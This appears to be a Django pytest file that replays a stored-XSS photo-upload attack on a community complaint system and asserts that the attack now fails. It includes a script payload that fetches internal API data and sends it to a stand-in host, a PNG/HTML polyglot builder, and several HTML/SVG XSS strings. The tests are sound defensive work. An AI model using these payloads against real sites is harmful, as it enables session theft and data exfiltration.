"""Issue 13, uploads: the attacker's requests, replayed; each must now fail.

The attack: a real PNG carrying <script> in a text chunk, uploaded anonymously with the
resident's form as `x.html`, was served from /media/photos/…/x.html as text/html; a signed-in
staff member who opened it ran the script with their session. Progress photos the same. And a
200 MB upload was read before it was refused."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image, PngImagePlugin

from accountability.models import ActionItem, ProgressPhoto
from accountability.tests.conftest import publish
from accounts.models import Organisation
from concerns.intake.submit import submit_concern
from concerns.models import Concern, Photo
from conftest import PASSWORD
from places.models import Building, Compound

SCRIPT = (
    b"<script>fetch('/api/v1/issues').then(r=>r.text()).then(t=>new Image().src='//x/?'+t)</script>"
)


def polyglot() -> bytes:
    """A PNG any viewer shows, with the script in a tEXt chunk and again after IEND."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    buffer = io.BytesIO()
    Image.new("RGB", (32, 32), "white").save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue() + b"<html>" + SCRIPT


@pytest.fixture
def garden(world) -> Building:
    compound = Compound.objects.create(name="花园小区", grid=world.g1)
    return Building.objects.create(compound=compound, name="3号楼")


@pytest.mark.django_db
def test_the_polyglot_named_x_html_is_stored_as_a_clean_png_and_not_readable_anonymously(
    client, world, garden
):
    upload = SimpleUploadedFile("x.html", polyglot(), content_type="text/html")
    response = client.post(
        "/concerns/",
        {
            "community": "C1",
            "content": "楼道灯坏了",
            "phone": "13800138000",
            "building": garden.pk,
            "photos": [upload],
        },
    )
    assert response.status_code == 302  # a real picture: accepted, as a photo
    photo = Photo.objects.get()
    name = photo.image.name
    assert name.endswith(".png") and not name.endswith("x.html")
    assert "x.html" not in name and "/x." not in name
    with photo.image.open("rb") as stored:
        data = stored.read()
    assert b"<script" not in data and b"<html" not in data and b"tEXt" not in data

    # Where the attacker expected it: nothing is served from a media folder any more.
    assert client.get("/media/" + name).status_code == 404
    assert (
        client.get(f"/media/photos/{name.split('/')[1]}/{name.split('/')[2]}/x.html").status_code
        == 404
    )
    # Anonymously, by its real address: not found.
    assert client.get(photo.get_absolute_url()).status_code == 404

    # The staff member who opens it gets an image that cannot run.
    client.login(username=world.grid_worker.username, password=PASSWORD)
    response = client.get(photo.get_absolute_url())
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"<script" not in b"".join(response.streaming_content)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "body",
    [
        b"<html><body><script>alert(document.cookie)</script></body></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>x</script></svg>',
    ],
)
def test_an_html_or_svg_file_named_png_is_refused(client, world, body):
    upload = SimpleUploadedFile("photo.png", body, content_type="image/png")
    response = client.post(
        "/concerns/",
        {"community": "C1", "content": "楼道灯坏了", "phone": "13800138000", "photos": [upload]},
    )
    assert response.status_code == 400
    assert "JPEG" in response.content.decode()  # says what to send instead
    assert not Concern.objects.exists() and not Photo.objects.exists()


@pytest.fixture
def item(world, water_company, water_rep) -> tuple[ActionItem, object]:
    concern = submit_concern(
        community=world.c1, content="自来水发黄", channel=Concern.Channel.WEB, phone="13800138000"
    )
    listed = publish(world, water_company, title="冲洗管道", days=10, issues=[concern.issue])
    return listed, water_rep


@pytest.mark.django_db
def test_a_progress_photo_polyglot_is_re_encoded_and_an_svg_refused(client, item):
    listed, rep = item
    client.login(username=rep.username, password=PASSWORD)
    url = reverse("accountability:progress", args=[listed.pk])
    svg = SimpleUploadedFile("p.png", b"<svg onload=alert(1)>", content_type="image/png")
    assert client.post(url, {"text": "进展", "photos": [svg]}).status_code == 400
    assert not ProgressPhoto.objects.exists()

    upload = SimpleUploadedFile("x.html", polyglot(), content_type="text/html")
    assert client.post(url, {"text": "进展", "photos": [upload]}).status_code == 302
    photo = ProgressPhoto.objects.get()
    assert photo.image.name.endswith(".png") and "x.html" not in photo.image.name
    client.logout()
    response = client.get(photo.get_absolute_url())  # public, like the item
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"<script" not in b"".join(response.streaming_content)


@pytest.mark.django_db
def test_an_api_progress_upload_of_html_is_a_400_with_a_code(client, item):
    from accounts.models import ApiToken

    listed, rep = item
    _token, key = ApiToken.issue(rep, "attack")
    upload = SimpleUploadedFile(
        "x.png", b"<html><script>alert(1)</script>", content_type="image/png"
    )
    response = client.post(
        f"/api/v1/action-items/{listed.pk}/progress-with-photos",
        {"text": "进展", "photos": [upload]},
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "not_an_image"


class UnreadBody:
    reads = 0

    def read(self, *args):
        self.reads += 1
        raise AssertionError("the body was read")

    readline = read


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/concerns/", "/api/v1/concerns", "/open311/v2/requests.json"])
def test_a_200_mb_upload_is_refused_with_413_without_being_read(client, path):
    body = UnreadBody()
    response = client.generic(
        "POST",
        path,
        data=b"x",
        content_type="multipart/form-data; boundary=B",
        CONTENT_LENGTH=str(200 * 1024 * 1024),
        **{"wsgi.input": body},
    )
    assert response.status_code == 413
    assert body.reads == 0


@pytest.mark.django_db
def test_an_open311_partner_sending_html_as_media_is_refused(client, world):
    from open311.models import ApiKey

    organisation = Organisation.objects.create(
        name="12345热线", kind=Organisation.Kind.GOVERNMENT_DEPARTMENT
    )
    _api_key, key = ApiKey.issue(name="hotline", organisation=organisation, areas=[world.c1])
    media = SimpleUploadedFile(
        "x.jpg", b"<html><script>alert(1)</script>", content_type="image/jpeg"
    )
    response = client.post(
        "/open311/v2/requests.json",
        {
            "api_key": key,
            "service_code": "noise",
            "address_string": "一号社区",
            "description": "楼下广场舞音响太吵",
            "phone": "13800138000",
            "media": media,
        },
    )
    assert response.status_code == 400
    assert "JPEG" in response.content.decode()
    assert not Concern.objects.exists() and not Photo.objects.exists()
